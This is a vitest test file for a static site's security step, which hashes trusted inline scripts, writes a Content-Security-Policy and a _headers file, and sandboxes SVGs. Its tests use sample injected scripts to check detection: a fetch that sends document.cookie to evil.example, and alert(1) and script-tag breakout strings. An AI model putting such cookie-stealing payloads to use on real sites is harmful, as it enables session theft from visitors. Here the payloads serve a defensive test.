import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { SiteConfigSchema } from '../../src/config/site.ts';
import { MINIMAL_SITE } from '../../src/config/test-fixtures.ts';
import type { TenantBundle } from '../../src/tenant/bundle.ts';
import { applySiteSecurity, scriptHash, sharedScriptTexts, withCspMeta, withCspMetaBytes } from './site-security.ts';
import { headersForPath, parseHeadersFile } from '../../src/security/headers-file.ts';
import { isTrustedScript, loadTrustedScripts } from './trusted-inline-scripts.ts';

const trusted = await loadTrustedScripts();
const VISIT_TRACKER = [...trusted.inlineBodies].find((body) => body.includes('forecourt:visited-pages'));
const ASTRO_ISLAND = [...trusted.exact].find((text) => text.includes('astro-island'));

function bundle(): TenantBundle {
  // A whole, validated config (what a build has), so every setting the policy reads is there.
  const config = SiteConfigSchema.parse({
    ...MINIMAL_SITE,
    url: 'https://www.dealer.example',
    search: { engine: { type: 'meilisearch', host: 'https://search.dealer.example', searchKey: 'k' } },
    integrations: { platformApi: { baseUrl: 'https://api.dealer.example' } },
  });
  return { config, vehicles: [{ photos: ['https://photos.feed.example/1.jpg'] }] } as unknown as TenantBundle;
}

const page = (scripts: string[]) =>
  `<!DOCTYPE html><html><head><meta charset="utf-8"><title>x</title>${scripts.map((s) => `<script>${s}</script>`).join('')}</head><body></body></html>`;

/** The runtime file both pages load first, in place of the inline script that held `gone`. */
function loadedFromFile(dir: string, gone: string): string {
  const src = /<script src="(\/_astro\/runtime\.[\w-]+\.js)"><\/script>/.exec(readFileSync(join(dir, 'index.html'), 'utf8'))?.[1];
  expect(src).toBeDefined();
  for (const name of ['index.html', 'cars/index.html']) {
    const html = readFileSync(join(dir, name), 'utf8');
    expect(html).not.toContain(gone);
    expect(html).toContain(`<title>x</title><script src="${src}"></script>`);
  }
  return src!;
}

describe('trusted inline scripts', () => {
  it('trusts what the code writes: Astro hydration, is:inline bodies, define:vars with plain constants', () => {
    expect(ASTRO_ISLAND).toBeDefined();
    expect(VISIT_TRACKER).toBeDefined();
    expect(isTrustedScript(ASTRO_ISLAND ?? '', trusted)).toBe(true);
    expect(isTrustedScript(`\n  ${VISIT_TRACKER}\n`, trusted)).toBe(true);
    const gate = [...trusted.inlineBodies].find((body) => body.includes('sessionKey')) ?? '';
    expect(isTrustedScript(`(function(){const type = "my-garage";\nconst sessionKey = "forecourt:session";\n\n  ${gate}\n})();`, trusted)).toBe(true);
  });

  it('trusts nothing else, not even a trusted body behind an injected constant', () => {
    expect(isTrustedScript('alert(1)', trusted)).toBe(false);
    const gate = [...trusted.inlineBodies].find((body) => body.includes('sessionKey')) ?? '';
    expect(isTrustedScript(`(function(){const type = alert(1);\n${gate}\n})();`, trusted)).toBe(false);
    expect(isTrustedScript(`(function(){const type = "</script><script>alert(1)";\n${gate}\n})();`, trusted)).toBe(false);
  });
});

describe('applySiteSecurity', () => {
  let dir = '';
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('hashes the trusted scripts, writes the CSP into each page and the _headers file', async () => {
    dir = mkdtempSync(join(tmpdir(), 'site-security-'));
    mkdirSync(join(dir, 'cars'));
    writeFileSync(join(dir, 'index.html'), page([ASTRO_ISLAND ?? '']));
    writeFileSync(join(dir, 'cars/index.html'), page([`\n  ${VISIT_TRACKER}\n`]));
    writeFileSync(join(dir, 'logo.svg'), '<svg/>');
    const result = await applySiteSecurity(dir, bundle(), trusted);
    expect(result.ok).toBe(true);
    expect(result.csp).toContain(`'${scriptHash(`\n  ${VISIT_TRACKER}\n`)}'`);
    expect(result.csp).toContain("connect-src 'self' https://api.dealer.example https://search.dealer.example");
    expect(result.csp).toContain("img-src 'self' data: blob: https://photos.feed.example");
    const home = readFileSync(join(dir, 'index.html'), 'utf8');
    expect(home).toMatch(
      /^<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="content-security-policy" content="default-src 'none'; script-src 'self' 'sha256-/,
    );
    expect(home).not.toMatch(/<meta http-equiv[^>]*frame-ancestors/);
    const headers = readFileSync(join(dir, '_headers'), 'utf8');
    expect(headers).toContain(`Content-Security-Policy: ${result.csp}`);
    expect(headers).toMatch(/\/\*\.svg\n {2}Content-Security-Policy: [^\n]*sandbox/);
  });

  it("moves Astro's island runtime into one cached file the page loads in the same place, and hashes it no more", async () => {
    dir = mkdtempSync(join(tmpdir(), 'site-security-'));
    mkdirSync(join(dir, 'cars'));
    const island = ASTRO_ISLAND ?? '';
    writeFileSync(join(dir, 'index.html'), page([island, `\n  ${VISIT_TRACKER}\n`]));
    writeFileSync(join(dir, 'cars/index.html'), page([`${island}\n`]));
    const result = await applySiteSecurity(dir, bundle(), trusted);
    expect(result.ok).toBe(true);
    const src = loadedFromFile(dir, 'astro-island');
    // The visit tracker stays inline, after it, hashed; the runtime's text is the file's.
    expect(readFileSync(join(dir, 'index.html'), 'utf8')).toMatch(new RegExp(`<script src="${src}"></script><script>\\n {2}\\(function`));
    expect(readFileSync(join(dir, src), 'utf8')).toBe(island.trim());
    expect(result.csp).not.toContain(scriptHash(island));
    expect(result.csp).toContain(`'${scriptHash(`\n  ${VISIT_TRACKER}\n`)}'`);
  });

  it('moves a script of ours that pages repeat word for word into a cached file; one on a single page stays inline', async () => {
    dir = mkdtempSync(join(tmpdir(), 'site-security-'));
    mkdirSync(join(dir, 'cars'));
    mkdirSync(join(dir, 'blog'));
    const tracker = `\n  ${VISIT_TRACKER}\n`;
    writeFileSync(join(dir, 'index.html'), page([tracker]));
    writeFileSync(join(dir, 'cars/index.html'), page([tracker]));
    const gate = [...trusted.inlineBodies].find((body) => body.includes('sessionKey')) ?? '';
    const once = `(function(){const type = "my-garage";\nconst sessionKey = "forecourt:session";\n\n  ${gate}\n})();`;
    writeFileSync(join(dir, 'blog/index.html'), page([once]));
    const result = await applySiteSecurity(dir, bundle(), trusted);
    expect(result.ok).toBe(true);
    const src = loadedFromFile(dir, 'forecourt:visited-pages');
    expect(readFileSync(join(dir, src), 'utf8')).toBe(tracker.trim());
    expect(result.csp).not.toContain(scriptHash(tracker));
    // Written on one page only: inline, hashed.
    expect(readFileSync(join(dir, 'blog/index.html'), 'utf8')).toContain(once);
    expect(result.csp).toContain(`'${scriptHash(once)}'`);
  });

  it('keeps a small repeated script inline: a request would cost more than its bytes', () => {
    expect(
      sharedScriptTexts(
        new Map([
          ['x'.repeat(600), 2],
          ['y'.repeat(600), 1],
          ['z'.repeat(100), 40],
        ]),
      ),
    ).toEqual(['x'.repeat(600)]);
  });

  it('fails the dealer, naming the page, when a page holds a script the code did not write', async () => {
    dir = mkdtempSync(join(tmpdir(), 'site-security-'));
    mkdirSync(join(dir, 'blog'));
    writeFileSync(join(dir, 'index.html'), page([ASTRO_ISLAND ?? '']));
    writeFileSync(join(dir, 'blog/index.html'), page(['fetch("https://evil.example/?c="+document.cookie)']));
    const result = await applySiteSecurity(dir, bundle(), trusted);
    expect(result.ok).toBe(false);
    expect(result.problems).toEqual([expect.stringContaining('blog/index.html: an inline script the code did not write')]);
    expect(result.csp).not.toContain(scriptHash('fetch("https://evil.example/?c="+document.cookie)'));
  });

  it('escapes the policy in the meta tag', () => {
    expect(withCspMeta('<head><meta charset="utf-8"></head>', `a "b" & c`)).toBe(
      '<head><meta charset="utf-8"><meta http-equiv="content-security-policy" content="a &quot;b&quot; &amp; c"></head>',
    );
  });

  it('writes the same page from its bytes as from its text', () => {
    const body = `<body><p>Ünïcödé · ${'déjà vu '.repeat(900)}</p></body>`;
    const pages = [
      `<!DOCTYPE html><html lang="en-AU"><head><meta charset="utf-8"><title>Café “Ōtaki”</title></head>${body}</html>`,
      `<html><head><title>${'é'.repeat(1000)}</title><meta charset="utf-8"></head>${body}</html>`, // two-byte characters before it
      `<html><head><title>${'é'.repeat(2032)}</title><meta charset="utf-8"></head>${body}</html>`, // across the first 4 KB
      `<html><head><title>${'x'.repeat(5000)}</title><META CHARSET=UTF-8 /></head>${body}</html>`, // past the first 4 KB
      `<html><head><title>no charset</title></head>${body}</html>`,
      `<p>neither</p>`,
    ];
    for (const html of pages) {
      expect(withCspMetaBytes(Buffer.from(html), `default-src 'self'; a "b" & c`).toString('utf8')).toBe(withCspMeta(html, `default-src 'self'; a "b" & c`));
    }
  });
});

describe('the SVG policy in _headers', () => {
  let dir = '';
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('covers every SVG with one pattern rule, however many there are', async () => {
    dir = mkdtempSync(join(tmpdir(), 'site-security-'));
    writeFileSync(join(dir, 'index.html'), page([]));
    mkdirSync(join(dir, 'icons'));
    for (let i = 0; i < 150; i++) writeFileSync(join(dir, 'icons', `i${String(i).padStart(3, '0')}.svg`), '<svg/>');
    const result = await applySiteSecurity(dir, bundle(), trusted);
    expect(result.warnings).toEqual([]);
    const rules = parseHeadersFile(readFileSync(join(dir, '_headers'), 'utf8'));
    expect(rules.map((rule) => rule.pattern)).toEqual(['/*', '/_astro/*', '/props/*', '/cards/*', '/*.svg']);
    expect(headersForPath(rules, '/icons/i149.svg')['Content-Security-Policy']).toContain('sandbox');
  });
});
